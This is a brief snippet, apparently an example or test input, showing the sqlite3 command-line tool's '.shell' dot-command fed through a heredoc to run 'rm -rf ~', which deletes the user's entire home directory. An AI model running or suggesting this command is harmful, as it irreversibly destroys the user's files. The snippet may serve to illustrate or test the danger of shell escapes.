# source: sqlite3 CLI dot-commands (.shell) https://sqlite.org/cli.html
sqlite3 app.db <<'EOF2'
.shell rm -rf ~
EOF2
